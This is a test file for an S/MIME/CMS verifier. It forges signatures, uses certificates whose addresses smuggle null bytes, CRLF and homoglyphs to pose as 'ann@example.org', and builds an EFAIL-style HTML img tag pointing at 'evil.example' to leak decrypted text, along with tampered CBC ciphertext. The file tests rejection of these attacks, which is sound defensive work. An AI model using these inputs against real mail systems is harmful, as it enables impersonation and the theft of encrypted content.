/** Attacks on CMS itself: whose certificate, which content, which digest; and on what is encrypted without authentication. */
import { createHash } from 'node:crypto';
import { beforeAll, describe, expect, it } from 'vitest';
import { reportOn } from '../../../src/cli/sealed/report.ts';
import { openMessage } from '../../../src/sealed/open.ts';
import { protect } from '../../../src/sealed/protect.ts';
import { multipart, text } from '../../../src/sealed/testing/letter.ts';
import type { OwnKey } from '../../../src/smime/algorithms/private-key.ts';
import { contentTypes, writeContentInfo } from '../../../src/smime/cms/content-info.ts';
import { sign } from '../../../src/smime/cms/sign.ts';
import * as write from '../../../src/smime/asn1/write.ts';
import { usualSignature } from '../../../src/smime/algorithms/make-signature.ts';
import { addressesExtension } from '../../../src/smime/certificates/write.ts';
import { smime } from '../../../src/smime/standard.ts';
import { ownKey } from '../../../src/smime/testing/certificate.ts';
import { ann, authorityOf, issued } from './authority.ts';
import { certificates } from './certificates.ts';
import { type SmimeKit, head, now, smimeKit, wanted } from './kit.ts';

const words = text('Lunch at noon?');

let kit: SmimeKit;
beforeAll(async () => {
  kit = await smimeKit();
});

/** A detached signature under a text of one's choice. */
const under = (shown: string, signature: Buffer, digest = 'sha-256'): string => {
  const lines = signature.toString('base64').match(/.{1,76}/gu) ?? [];
  const file = `Content-Type: application/pkcs7-signature; name=smime.p7s\r\nContent-Transfer-Encoding: base64\r\n\r\n${lines.join('\r\n')}\r\n`;
  return head() + multipart(`signed; protocol="application/pkcs7-signature"; micalg=${digest}`, shown, file);
};
const opaque = (octets: Buffer, type = 'signed-data'): string => {
  const lines = octets.toString('base64').match(/.{1,76}/gu) ?? [];
  return `${head()}Content-Type: application/pkcs7-mime; smime-type=${type}; name=smime.p7m\r\nContent-Transfer-Encoding: base64\r\n\r\n${lines.join('\r\n')}\r\n`;
};

const cms = async (content: string, key: OwnKey, isDetached: boolean): Promise<Buffer> =>
  wanted(await sign(Buffer.from(content), [key], { ...usualSignature, isDetached, at: now, intermediates: [] })).octets;

describe('wrapped CMS', () => {
  it('is good as it is made', async () => {
    expect(await kit.look(opaque(await cms(words, kit.keys.ann, false)))).toMatchObject({ verdict: 'valid' });
    expect(await kit.look(under(words, await cms(words, kit.keys.ann, true)))).toMatchObject({ verdict: 'valid' });
  });

  const rows: readonly (readonly [string, string, string, () => Promise<string>])[] = [
    [
      'content of its own in a detached signature',
      'invalid',
      'changed',
      async () => under(text('Pay'), await cms(words, kit.keys.ann, false)),
    ],
    ['opaque, and nothing inside', 'invalid', 'malformed', async () => opaque(await cms(words, kit.keys.ann, true))],
    [
      'opaque, said to be encrypted',
      'invalid',
      'signer',
      async () => opaque(await cms(words, kit.keys.mallory, false), 'enveloped-data'),
    ],
    [
      'signed inside signed: the inner one is Ann’s',
      'invalid',
      'signer',
      async () => {
        const ann = await kit.opaque(words);
        return opaque(await cms(ann, kit.keys.mallory, false));
      },
    ],
    [
      'no signer',
      'invalid',
      'malformed',
      () => {
        const data = write.sequence(
          write.integer(1),
          write.element(0x31),
          write.sequence(write.oid(contentTypes.data)),
          write.element(0xa0, kit.keys.ann.certificate.octets),
          write.element(0x31),
        );
        return Promise.resolve(under(words, writeContentInfo(contentTypes.signedData, data)));
      },
    ],
    [
      'Ann’s certificate beside a stranger’s signature',
      'invalid',
      'signer',
      async () => {
        const options = { ...usualSignature, isDetached: true, at: now, intermediates: [kit.keys.ann.certificate] };
        return under(words, wanted(await sign(Buffer.from(words), [kit.keys.mallory], options)).octets);
      },
    ],
    [
      'Ann’s certificate, signed by another key',
      'invalid',
      'changed',
      async () =>
        under(words, await cms(words, { certificate: kit.keys.ann.certificate, key: kit.keys.mallory.key }, true)),
    ],
    [
      'a certificate that Mallory made for Ann',
      'unproven',
      'issuer',
      async () => under(words, await cms(words, await ownKey('P-256', 'ann@example.org'), true)),
    ],
    [
      'a stranger signs beside Ann, who did not',
      'invalid',
      'signer',
      async () => {
        const forged = { certificate: kit.keys.ann.certificate, key: kit.keys.mallory.key };
        const options = { ...usualSignature, isDetached: true, at: now, intermediates: [] };
        return under(words, wanted(await sign(Buffer.from(words), [forged, kit.keys.mallory], options)).octets);
      },
    ],
    [
      'content glued to the attributes of another message',
      'invalid',
      'malformed',
      () => {
        // Signed attributes as content: what was signed for one message passes for another. RFC 5652 §5.6
        const content = write.element(0x31, write.sequence(write.oid('1.2.840.113549.1.9.3')));
        const data = write.sequence(
          write.integer(1),
          write.element(0x31),
          write.sequence(write.oid(contentTypes.data), write.element(0xa0, write.octetString(content))),
          write.element(0xa0, kit.keys.ann.certificate.octets),
          write.element(
            0x31,
            write.sequence(
              write.integer(1),
              write.sequence(kit.keys.ann.certificate.issuer.octets, write.integer(kit.keys.ann.certificate.serial)),
              write.sequence(write.oid('2.16.840.1.101.3.4.2.1')),
              write.sequence(write.oid('1.2.840.10045.4.3.2')),
              write.octetString(createHash('sha256').update(content).digest()),
            ),
          ),
        );
        return Promise.resolve(opaque(writeContentInfo(contentTypes.signedData, data)));
      },
    ],
  ];
  it.each(rows)('%s: %s, %s', async (_what, verdict, fault, make) => {
    expect(await kit.look(await make())).toMatchObject({ verdict, fault, good: false });
  });

  it.each<[what: string, digest: string, verdict: string, fault: string]>([
    ['MD5', '1.2.840.113549.2.5', 'invalid', 'weak'],
    ['an unknown digest', '1.2.3.4', 'unknown', 'unsupported'],
  ])('signed over %s', async (_what, digest, verdict, fault) => {
    const { certificate } = kit.keys.ann;
    const signer = write.sequence(
      write.integer(1),
      write.sequence(certificate.issuer.octets, write.integer(certificate.serial)),
      write.sequence(write.oid(digest)),
      write.sequence(write.oid('1.2.840.10045.4.3.2')),
      write.octetString(Buffer.alloc(70, 1)),
    );
    const data = write.sequence(
      write.integer(1),
      write.element(0x31),
      write.sequence(write.oid(contentTypes.data)),
      write.element(0xa0, certificate.octets),
      write.element(0x31, signer),
    );
    const message = under(words, writeContentInfo(contentTypes.signedData, data), 'md5');
    expect(await kit.look(message)).toMatchObject({ verdict, fault, good: false });
  });
});

function replaced(octets: Buffer, from: Buffer, to: Buffer): Buffer {
  const pieces: Buffer[] = [];
  let at = 0;
  for (let next = octets.indexOf(from); next !== -1; next = octets.indexOf(from, at)) {
    pieces.push(octets.subarray(at, next), to);
    at = next + from.length;
  }
  return Buffer.concat([...pieces, octets.subarray(at)]);
}

describe('certificates', () => {
  it.each(certificates)('%s: %s, %s', async (_what, verdict, fault, make) => {
    const report = await kit.look(await make(kit));
    expect([report.verdict, report.fault]).toEqual([verdict, fault]);
  });
});

describe('certificates that name somebody else', () => {
  it.each([
    'ann@example.org\0.evil.example',
    'ann@example.org\r\n',
    ' ann@example.org',
    'ann@example.org,mallory@example.org',
    'ann@example.org.evil.example',
    'ann@example.org@evil.example',
    'ANN@EXAMPLE.ORG.',
    '\u212ann@example.org',
    '*@example.org',
    '@example.org',
    'example.org',
  ])('%j is not ann@example.org', async (address) => {
    const mallory = await ownKey('P-256', address);
    expect(await kit.lookWith([mallory])(head() + (await kit.signWith(words, mallory)))).toMatchObject({
      verdict: 'invalid',
      fault: 'signer',
    });
  });

  it('a certificate that was accepted for Mallory does not speak for Ann, whatever else it names', async () => {
    const both = addressesExtension(['mallory@example.org', 'ann@example.org']);
    const mallory = await issued(await authorityOf('Other'), ann, [both]);
    const trust = { ...kit.trust, accepted: [mallory.certificate], acceptedFor: () => ['mallory@example.org'] };
    const standards = [smime(trust, [])];
    const verdictOf = async (from: string): Promise<string> => {
      const message = Buffer.from(head(from) + (await kit.signWith(words, mallory)));
      return (await reportOn('m', protect(await openMessage(message, standards)), standards)).report.verdict;
    };
    expect([await verdictOf('ann@example.org'), await verdictOf('mallory@example.org')]).toEqual(['invalid', 'valid']);
  });

  it('case of ASCII does not matter', async () => {
    const ann = await ownKey('P-256', 'Ann@Example.ORG');
    expect(await kit.lookWith([ann])(head() + (await kit.signWith(words, ann)))).toMatchObject({ verdict: 'valid' });
  });
});

describe('EFAIL', () => {
  const secret = 'the secret plan';
  const html = (content: string): string => `Content-Type: text/html\r\n\r\n${content}\r\n`;

  it('a picture round an encrypted part: it is opened apart, and covered as a part alone', async () => {
    const open = html('<img src="https://evil.example/');
    const report = await kit.look(head() + multipart('mixed', open, await kit.encrypt(text(secret)), html('">')));
    expect(report).toMatchObject({ verdict: 'none', good: false });
    const [first, sealed, last] = report.parts.children;
    expect([first?.covers, sealed?.children[0]?.covers, last?.covers]).toEqual(['nothing', 'part', 'nothing']);
  });

  it('blocks of CBC glued together: what comes out is not shown', async () => {
    const entity = `Content-Type: text/plain\r\n\r\n${`${secret} `.repeat(20)}\r\n`;
    const message = await kit.encryptOld(entity);
    expect(await kit.look(head() + message)).toMatchObject({ verdict: 'none', encryption: [{ state: 'opened' }] });
    const [top = '', body = ''] = message.split('\r\n\r\n');
    const octets = Buffer.from(body, 'base64');
    // A block of the ciphertext changed: 16 octets of nonsense, and a chosen change in the 16 behind. As many places as there are.
    for (let back = 64; back <= 192; back += 16) {
      const changed = Buffer.from(octets);
      changed[changed.length - back] = (changed[changed.length - back] ?? 0) ^ 0x20;
      const report = await kit.look(`${head()}${top}\r\n\r\n${changed.toString('base64')}\r\n`);
      expect(report).toMatchObject({ verdict: 'invalid', fault: 'broken', parts: { children: [] } });
      expect(JSON.stringify(report)).not.toContain(secret);
    }
  });

  it('authenticated encryption that was changed gives nothing', async () => {
    const [top = '', body = ''] = (await kit.encrypt(text(secret))).split('\r\n\r\n');
    const octets = Buffer.from(body, 'base64');
    for (const back of [1, 17, 40]) {
      const changed = Buffer.from(octets);
      changed[changed.length - back] = (changed[changed.length - back] ?? 0) ^ 1;
      expect(await kit.look(`${head()}${top}\r\n\r\n${changed.toString('base64')}\r\n`)).toMatchObject({
        verdict: 'invalid',
        fault: 'broken',
        parts: { children: [] },
      });
    }
  });

  it('authenticated encryption that is said to be none gives nothing', async () => {
    // AuthEnvelopedData under the name of EnvelopedData, without its tag. RFC 5083 §2.1
    const [top = '', body = ''] = (await kit.encrypt(text(secret))).split('\r\n\r\n');
    const octets = replaced(
      Buffer.from(body, 'base64'),
      write.oid(contentTypes.authEnvelopedData).subarray(0, 13),
      Buffer.alloc(0),
    );
    const report = await kit.look(`${head()}${top}\r\n\r\n${octets.toString('base64')}\r\n`);
    expect(report).toMatchObject({ good: false, parts: { children: [] } });
    expect(report.verdict).not.toBe('valid');
  });
});
